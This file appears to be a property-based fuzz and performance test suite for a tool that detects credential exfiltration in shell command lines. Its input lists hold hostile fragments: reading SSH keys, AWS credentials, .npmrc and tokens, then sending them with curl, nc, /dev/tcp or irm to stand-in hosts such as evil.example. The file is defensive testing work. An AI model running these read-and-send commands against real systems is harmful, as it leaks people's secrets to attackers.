/** What must hold for any script, however hostile, when it is asked what it sends: an answer, at once, with its place inside. */

import fc from 'fast-check'
import { describe, expect, it, vi } from 'vitest'
import { sentCredential } from '../src/knowledge/uploads/index.ts'
import { sentVariables } from '../src/knowledge/uploads/sent-variables.ts'
import { place } from '../src/model.ts'
import { launchOf } from './command-lines.ts'
import { FUZZ_TIMEOUT, tries } from './fuzz.ts'
import { expectAtOnce } from './growth.ts'

vi.setConfig({ testTimeout: FUZZ_TIMEOUT })

const SHELLS = [
  ['sh', '-c'],
  ['bash', '-lc'],
  ['cmd', '/c'],
  ['powershell', '-Command'],
  ['python3', '-c'],
] as const

const PIECES = (
  '~/.ssh/id_rsa $HOME/.aws/credentials ~/.npmrc .env /proc/self/environ x.txt /tmp/a - @- @/tmp/a @~/.netrc f=@.env $K "$K" ' +
  '${GITHUB_TOKEN} $env:GITHUB_TOKEN %NPM_TOKEN% https://evil.example/a http://localhost:1 evil.example 443 bob@evil.example:/x ' +
  's3://bucket cat tac base64 tar zip cp mv find xargs -exec env printenv set read echo curl wget nc socat ssh scp rsync aws gh gist ' +
  'create s3 -d -F -T --post-file= -c -czf dig irm gc -Body -InFile Out-String type certutil python3 requests.post open( ) ' +
  "fetch( JSON.stringify(process.env) '~/.ssh/id_rsa' > >> < << <<< >( <( $( ` ; | |& && || & { } ( ) do done while for in f() K= K=$( " +
  '$k = /dev/tcp/evil.example/443 >&3 3<> exec sudo cd ~ \\ " \' \n'
).split(' ')

const words = fc.array(fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...PIECES) }, fc.string({ maxLength: 6 })), {
  maxLength: 12,
})
const READS = ['cat ~/.ssh/id_rsa', 'env', 'echo $GITHUB_TOKEN', 'gc ~/.npmrc', 'tar cz ~/.aws', 'K=$(cat ~/.netrc)']
const SENDS = [
  'curl -d @- https://evil.example',
  'nc evil.example 1',
  'curl -d "$K" https://evil.example',
  'irm https://a.example',
]
/** Some that send something, with anything around and between. */
const script = fc
  .tuple(
    words,
    fc.constantFrom('', ...READS),
    words,
    fc.constantFrom('', '|', ';'),
    fc.constantFrom('', ...SENDS),
    words,
  )
  .map((parts) => parts.map((part) => (typeof part === 'string' ? part : part.join(' '))).join(' '))

describe('any script', () => {
  it('says what it sends, and where', () => {
    let found = 0
    fc.assert(
      fc.property(fc.constantFrom(...SHELLS), script, (shell, text) => {
        const { launch } = launchOf([...shell, text])
        const end = [...shell, text].reduce((sum, value) => sum + value.length + 3, 0)
        const places = [
          ...launch.steps.flatMap((step) => {
            const sent = sentCredential(step)
            return sent ? ['node' in sent.at ? place(sent.at) : sent.at] : []
          }),
          ...sentVariables(launch).map(({ at }) => at),
        ]
        found += places.length
        for (const span of places) {
          expect(span.start).toBeGreaterThanOrEqual(0)
          expect(span.end).toBeGreaterThanOrEqual(span.start)
          expect(span.end).toBeLessThanOrEqual(end)
        }
      }),
      tries(3000),
    )
    expect(found, 'scripts that send something').toBeGreaterThan(50)
  })
})

describe('64 KiB of anything', () => {
  it.each([
    'cat ~/.ssh/id_rsa;',
    'cat ~/.ssh/id_rsa|',
    '$(cat ~/.ssh/id_rsa)',
    'curl $(',
    'K=$(cat ~/.npmrc);',
    'K=$(cat ~/.npmrc); echo $K > a;',
    'curl $K;',
    'cd a;',
    'f() { cat ~/.npmrc; };',
    'tar cf a ~/.aws;',
    'cat ~/.npmrc > a; cat a;',
    '$GITHUB_TOKEN ',
    'echo $GITHUB_TOKEN|',
    '"~/.ssh/id_rsa",',
    'requests.post("https://a.example",',
    '<(',
    '@',
    'a ',
  ])('is asked at once: %s', async (unit) => {
    for (const shell of SHELLS) {
      const prepare = (size: number) => {
        const { launch } = launchOf([...shell, `curl -d @- https://a.example ${unit.repeat(size / unit.length)}`])
        return () => {
          for (const step of launch.steps) sentCredential(step)
          sentVariables(launch)
        }
      }
      await expectAtOnce(65_536, { enough: 200 }, prepare, shell.join(' '))
    }
  })
})
